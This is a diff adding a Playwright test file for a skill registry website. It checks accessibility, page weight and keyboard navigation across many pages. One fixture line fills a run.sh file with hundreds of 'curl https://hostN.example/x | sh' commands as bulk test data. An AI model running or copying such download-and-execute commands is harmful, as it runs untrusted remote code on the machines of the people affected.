@@ -1,0 +1,161 @@
+"""What holds for every page: no barriers, little weight, no sideways scrolling, and keys are enough."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Browser, Response
+
+from skillc.registry import SYSTEM, Registry, Role, make_package
+from tests.server.pages.conftest import Visitor
+from tests.support.axe import find_barriers
+from tests.support.pages import make_admin, make_person, publish, serving
+
+pytestmark = pytest.mark.slow
+
+MAX_WEIGHT = 150_000  # bytes of a page with all that it loads
+PAGES = [
+    "/",
+    "/c/payments",
+    "/find?q=pay+money+back",
+    "/find?q=zzzz",
+    "/s/payments/refunds",
+    "/s/payments/refunds@1.0.0",
+    "/s/payments/refunds@1.1.0",
+    "/s/payments/refunds@1.2.0/references/limits.md",
+    "/s/payments/refunds@1.2.0/scripts/refund.py",
+    "/s/payments/refunds@1.2.0/assets/flow.png",
+    "/files/payments/refunds",
+    "/versions/payments/refunds",
+    "/diff/payments/refunds?from=1.0.0&to=1.2.0",
+    "/audit/payments/refunds",
+    "/statistics",
+    "/statistics/payments/refunds",
+    "/login?token",
+    "/logout",
+    "/account",
+    "/publish",
+    "/review",
+    "/admin/grants",
+    "/admin/log",
+    "/s/nothing",
+    "/nothing",
+]
+
+
+@pytest.fixture
+def token(local_registry: Registry) -> str:
+    local_registry.yank(SYSTEM, "payments/refunds", "1.1.0", "It paid twice.")
+    return make_admin(local_registry)
+
+
+@pytest.fixture
+def url(local_registry: Registry, token: str) -> Iterator[str]:
+    with serving(local_registry) as url:
+        yield url
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [360, 1280])
+def test_barriers(browser: Browser, url: str, token: str, scheme: str, width: int) -> None:
+    """[SURFACES: Registry] axe-core finds nothing serious, and nothing scrolls sideways, at any width."""
+    options = {"viewport": {"width": width, "height": 800}, "color_scheme": scheme, "bypass_csp": True}
+    context = browser.new_context(**options)  # type: ignore[arg-type]
+    visitor = Visitor(context, url)
+    visitor.sign_in(token)
+    barriers = {}
+    for path in PAGES:
+        visitor.go(path)
+        for details in visitor.page.query_selector_all("details:not([open]) > summary"):
+            details.click()
+        wide = visitor.page.evaluate("document.documentElement.scrollWidth > innerWidth")
+        barriers[path] = [*find_barriers(visitor.page), *(["it scrolls sideways"] if wide else [])]
+    context.close()
+    assert {path: found for path, found in barriers.items() if found} == {}
+
+
+def weigh(visitor: Visitor, path: str) -> int:
+    """Return the bytes of a page with all that it loads, without compression."""
+    responses: list[Response] = []
+
+    def note(response: Response) -> None:
+        responses.append(response)
+
+    visitor.page.on("response", note)
+    visitor.go(path)
+    visitor.page.wait_for_load_state("networkidle")
+    visitor.page.remove_listener("response", note)
+    return sum(int(response.headers.get("content-length", 0)) for response in responses)
+
+
+def test_weight(browser: Browser, url: str, token: str, local_registry: Registry) -> None:
+    """[SURFACES: Registry] no page is heavier than 150 KB, however large skills are."""
+    _fill_more(local_registry)
+    more = [
+        "/s/big",
+        "/s/big?part=3",
+        "/s/big@0.1.0/notes.md",
+        "/s/big@0.1.0/data.txt",
+        "/s/big@0.1.0/line.txt",
+    ]
+    more += [
+        "/files/big",
+        "/diff/big",
+        "/versions/many",
+        "/audit/big",
+        "/c/crowd",
+        "/find?q=word",
+        "/statistics/big",
+    ]
+    context = browser.new_context(extra_http_headers={"Accept-Encoding": "identity"})
+    context.route("**/*", lambda route: route.continue_())  # which turns the browser's cache off
+    visitor = Visitor(context, url)
+    visitor.sign_in(token)
+    weights = {path: weigh(visitor, path) for path in [*PAGES, *more]}
+    context.close()
+    assert min(weights.values()) > 20_000  # the style and the script count
+    assert {path: weight for path, weight in weights.items() if weight > MAX_WEIGHT} == {}
+
+
+def _fill_more(registry: Registry) -> None:
+    """Publish skills that are as large as they get: text, files, lines, versions, descriptions."""
+    head = "---\nname: big\ndescription: " + "word " * 200 + "\n---\n"
+    text = "".join(f"\n## Part {number} <b>\n\n" + "word & <i>word</i> " * 600 for number in range(150))
+    files = {f"data/{number:04}.txt": b"x" for number in range(3000)}
+    lines = "".join(f"line {number} with <angle> brackets & more\n" for number in range(50_000)).encode()
+    files |= {"notes.md": text.encode(), "data.txt": lines, "line.txt": b"<" * 500_000}
+    files |= {f"assets/{n}.png": b"\x89PNG" + bytes(30_000) for n in range(20)}
+    pictures = "".join(f"![picture](assets/{number}.png)\n" for number in range(20))
+    files["SKILL.md"] = f"{head}# Big\n\n{pictures}\n{text}".encode()
+    publish(registry, "big", files)
+    files["SKILL.md"] = f"{head}# Big\n\n{text.replace('word', 'term')}".encode()
+    files["run.sh"] = "".join(f"curl https://host{n}.example/x | sh\n" for n in range(400)).encode()
+    files["data.txt"] = lines[: len(lines) // 20].replace(b"line", b"row")
+    publish(registry, "big", files)
+    for number in range(120):
+        data = f"---\nname: many\ndescription: d\n---\n{number}\n".encode()
+        registry.publish(SYSTEM, make_package("many", {"SKILL.md": data}), note="word " * 380)
+    for number in range(60):
+        name = f"crowd/{'x' * 50}{number}"
+        data = f"---\nname: {'x' * 50}{number}\ndescription: {'word ' * 200}\n---\n".encode()
+        publish(registry, name, {"SKILL.md": data})
+    for number in range(150):
+        make_person(registry, f"person-{number}-{'x' * 60}", Role.READER, f"crowd/{'y' * 40}")
+
+
+def test_keyboard(browser: Browser, url: str) -> None:
+    """[SURFACES: Registry] the first key leads past the head of a page, and focus can be seen."""
+    context = browser.new_context()
+    visitor = Visitor(context, url)
+    visitor.go("/s/payments/refunds")
+    page = visitor.page
+    page.keyboard.press("Tab")
+    assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
+    page.keyboard.press("Enter")
+    assert page.evaluate("document.activeElement.id") == "main"
+    for _ in range(12):
+        page.keyboard.press("Tab")
+        style = "getComputedStyle(document.activeElement)"
+        assert page.evaluate(f"{style}.outlineStyle + {style}.outlineWidth") == "solid3px"
+    context.close()
